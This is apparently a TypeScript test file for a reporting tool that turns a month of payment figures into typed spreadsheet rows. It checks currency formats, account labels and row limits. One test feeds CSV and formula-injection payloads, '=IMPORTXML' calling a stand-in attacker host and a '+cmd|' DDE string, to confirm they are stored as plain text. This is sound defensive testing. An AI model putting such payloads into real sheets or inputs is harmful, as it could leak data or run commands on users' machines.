// The rows of a month's tab: the same figures as in the report, each typed.
import { describe, expect, it } from 'vitest';
import { type Cell, cellData, shownCell } from '../../../src/sinks/rows-cells.ts';
import { MONTH_COLUMNS, monthRows } from '../../../src/sinks/rows-month.ts';
import { sampleMonth, scopeOfMonth } from '../../support/sample-month.ts';

const shown = (rows: readonly (readonly Cell[])[]) => rows.map((row) => row.map((cell) => shownCell(cell, 'UTC')));

const row = (rows: readonly (readonly Cell[])[], figure: string, unit: string): readonly Cell[] => {
  const found = rows.filter((cells) => shownCell(cells[2] ?? { kind: 'empty' }, 'UTC') === figure);
  const [one, ...more] = found.filter((cells) => shownCell(cells[4] ?? { kind: 'empty' }, 'UTC') === unit);
  expect(more).toEqual([]);
  if (one === undefined) throw new Error(`no row of ${figure} in ${unit}`);
  return one;
};

describe('the rows of a month', () => {
  it('are one figure each, with money in the currency’s own digits', () => {
    const rows = monthRows(sampleMonth());
    for (const cells of rows) expect(cells).toHaveLength(MONTH_COLUMNS.length);
    expect(shown(rows)[0]).toEqual(['Account', 'Part', 'Figure', 'Value', 'Unit', 'From', 'To', 'Remark']);
    const value = (figure: string, unit: string) => cellData(row(rows, figure, unit)[3] ?? { kind: 'empty' }, 'UTC');
    expect(value('attempts', 'number')).toMatchObject({ userEnteredValue: { numberValue: 1_204 } });
    expect(value('attempts', 'EUR')).toEqual({
      userEnteredValue: { numberValue: 123_456.78 },
      userEnteredFormat: { numberFormat: { type: 'NUMBER', pattern: '#,##0.00 "EUR"' } },
    });
    expect(value('attempts', 'JPY')).toMatchObject({
      userEnteredValue: { numberValue: 5_000 },
      userEnteredFormat: { numberFormat: { pattern: '#,##0 "JPY"' } },
    });
    expect(value('declined by the bank', 'KWD')).toMatchObject({
      userEnteredValue: { numberValue: 1.234 },
      userEnteredFormat: { numberFormat: { pattern: '#,##0.000 "KWD"' } },
    });
    expect(value('to acknowledge, median', 'minutes')).toMatchObject({ userEnteredValue: { numberValue: 2.5 } });
    expect(value('VAMP (visa)', 'share')).toMatchObject({ userEnteredValue: { numberValue: 0.005 } });
    expect(value('ECM (mastercard)', 'share')).toEqual({});
    const [precision, from, to] = [3, 5, 6].map((at) =>
      cellData(row(rows, 'card-declines', 'share')[at] ?? { kind: 'empty' }, 'UTC'),
    );
    expect([precision, from, to]).toMatchObject(
      [0.5, 0.0945, 0.9055].map((numberValue) => ({ userEnteredValue: { numberValue } })),
    );
    expect(shown([row(rows, 'card-declines', 'share')])[0]?.at(-1)).toBe(
      '2 of 4 graded, 1 corrected by what banks said later',
    );
    expect(shown([row(rows, 'to resolve', 'minutes')])[0]?.slice(3)).toEqual(['', 'minutes', '', '', 'nobody yet']);
  });

  it('say which account and mode, and what was counted in part', () => {
    const test = scopeOfMonth({ scope: { account: 'acct_1A', livemode: false }, partialDays: ['2026-10-01'] });
    const rows = shown(monthRows(sampleMonth('2026-10', [scopeOfMonth(), test])));
    expect(new Set(rows.slice(1).map(([account]) => account))).toEqual(new Set(['own account', 'acct_1A (TEST)']));
    expect(rows.find(([account]) => account === 'acct_1A (TEST)')?.at(-1)).toContain('2026-10-01');
  });

  it('are bounded: whole accounts only, and how many more there are', () => {
    const scopes = Array.from({ length: 500 }, (_, n) =>
      scopeOfMonth({ scope: { account: `acct_${n}`, livemode: true } }),
    );
    const rows = shown(monthRows(sampleMonth('2026-10', scopes)));
    expect(rows.length).toBeLessThanOrEqual(2_001);
    const accounts = new Set(rows.slice(1, -1).map(([account]) => account));
    expect(rows.at(-1)?.slice(1, 4)).toEqual(['Accounts', 'further ones', String(500 - accounts.size)]);
    const per = rows.filter(([account]) => account === 'acct_0').length;
    expect(rows.length - 2).toBe(per * accounts.size);
  });

  it('hold no live formula, whatever a detector or an account is called', () => {
    const [grade] = scopeOfMonth().grades;
    if (grade === undefined) throw new Error('the sample has a grade');
    const scope = scopeOfMonth({
      scope: { account: '=IMPORTXML("http://evil.example")', livemode: true },
      grades: [{ ...grade, detector: '+cmd|evil!A1' }],
    });
    const data = monthRows(sampleMonth('2026-10', [scope]))
      .flat()
      .map((cell) => cellData(cell, 'UTC'));
    for (const one of data) {
      expect(JSON.stringify(one)).not.toContain('formulaValue');
      if (one.userEnteredValue !== undefined && 'stringValue' in one.userEnteredValue)
        expect(one.userEnteredFormat?.numberFormat?.type).toBe('TEXT');
    }
  });
});
